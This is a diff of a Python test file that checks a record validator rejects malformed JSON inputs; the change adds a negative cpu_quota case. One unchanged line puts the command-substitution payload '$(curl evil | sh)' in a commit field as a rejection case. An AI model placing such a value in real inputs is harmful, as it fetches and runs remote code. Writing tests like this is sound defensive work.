@@ -79,6 +79,7 @@ def test_what_a_line_omits_has_its_default() -> None:
         ('{"schema": 6, more}', "is damaged"),
         (json.dumps(START | {"timing": {"long_seconds": math.inf}}), "timing.long_seconds: Input should be a finite"),
         (json.dumps(START | {"start_seconds": 1e9}), "start_seconds: Input should be less"),
+        (json.dumps(START | {"machine": START["machine"] | {"cpu_quota": -1.0}}), "machine.cpu_quota: Input should"),
         (json.dumps(START | {"commit": "$(curl evil | sh)"}), "commit: String should match pattern"),
         (json.dumps(START | {"ceilings": {"flops_per_second": 0}}), "ceilings.flops_per_second: Input should be great"),
         (json.dumps(START | {"smoke": True}), "is a smoke record among real ones"),
